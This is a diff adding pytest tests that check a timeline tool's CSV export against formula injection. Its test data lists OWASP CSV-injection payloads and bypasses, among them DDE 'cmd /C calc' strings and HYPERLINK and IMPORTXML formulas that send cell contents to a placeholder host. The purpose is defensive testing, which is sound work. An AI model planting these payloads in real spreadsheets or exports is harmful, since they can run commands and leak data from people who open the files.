@@ -130,3 +130,67 @@ def test_the_size_limit_holds_for_what_is_read(project, tmp_path):
     big.write_text(ARTICLE * 100)
     report = import_paths(project, [big], NOW, max_bytes=1000)
     assert report.results[0].status == "failed" and report.results[0].message.startswith("too large")
+
+
+# --- CSV safe by construction -------------------------------------------------------------------
+
+# The OWASP CSV-injection payloads, and the bypasses of a plain first-character check.
+OWASP_AND_BYPASSES = [
+    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://127.0.0.1/?leak=\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    "\t=1+1", "\r=1+1", "\n-3+3+cmd|' /C calc'!D2", "=IMPORTXML(CONCAT(\"http://x/?v=\", A1), \"//a\")",
+    "\r=1+1.txt", "-2021-03/1+cmd|' /C calc'!A0", "-2021-03/1+HYPERLINK(\"http://x\")", "＝1+1", "﹦1+1",
+    "＋cmd|' /C calc'!A0", " =1+1", "\n=1+1", "\u200b=1+1", "\u3000=1+1", "  \t @SUM(A1)", "-1+1",
+]
+PLAIN = ["-12.5", "+3", "2022-01-30", "-0044-03-15", "-0044-03/-0043-01", "2021-03-01T10:00Z", "plain words",
+         "1+1", "e-mail", "'=already quoted"]
+
+
+def _formula_start(cell: str) -> bool:
+    """What a spreadsheet would see: blanks and controls trimmed, full-width forms folded."""
+    import unicodedata
+
+    folded = unicodedata.normalize("NFKC", cell).lstrip("".join(map(chr, range(33))) + "\u200b\u3000 \u00a0")
+    return folded[:1] in ("=", "+", "-", "@")
+
+
+def test_no_csv_cell_reads_as_a_formula_and_every_row_parses_back():
+    import csv
+    import io
+
+    from timeline.export.csv import safe_cell, write_csv
+
+    cells = OWASP_AND_BYPASSES + PLAIN
+    rows = [[str(n), safe_cell(cell), safe_cell("file " + cell)] for n, cell in enumerate(cells)]
+    rows.append([str(len(cells)), safe_cell("\r=1+1.txt"), "end"])  # a file name with a CR
+    out = io.StringIO()
+    write_csv(out, rows, ["n", "cell", "name"])
+    parsed = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert parsed[1:] == rows  # nothing split a row; CR and LF came back inside their cells
+    for (_n, cell, _name), original in zip(parsed[1:], cells):
+        if original in PLAIN:
+            assert cell == original
+        else:
+            assert not _formula_start(cell) and cell == "'" + original, repr(cell)
+
+
+@pytest.mark.skipif(os.name == "nt", reason="a CR in a file name")
+def test_exported_csv_of_hostile_file_names_and_sentences_parses_back_without_formulas(project, tmp_path):
+    import csv
+    import io
+
+    from timeline.export.csv import COLUMNS, event_rows, write_csv
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "\r=1+1.txt").write_text(ARTICLE)
+    (folder / "＝1+1.txt").write_text("-2021-03/1+cmd|' /C calc'!A0 was filed on March 5, 2021 by the clerk.\n")
+    results = _import(project, folder)
+    assert {r.status for r in results.values()} == {"imported"}
+    out = io.StringIO()
+    with project.session() as session:
+        write_csv(out, event_rows(session))
+    parsed = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert all(len(row) == len(COLUMNS) for row in parsed) and len(parsed) > 2
+    assert {row[COLUMNS.index("source")] for row in parsed[1:]} == {"'\r=1+1.txt", "'＝1+1.txt"}
+    assert not any(_formula_start(cell) for row in parsed[1:] for cell in row)
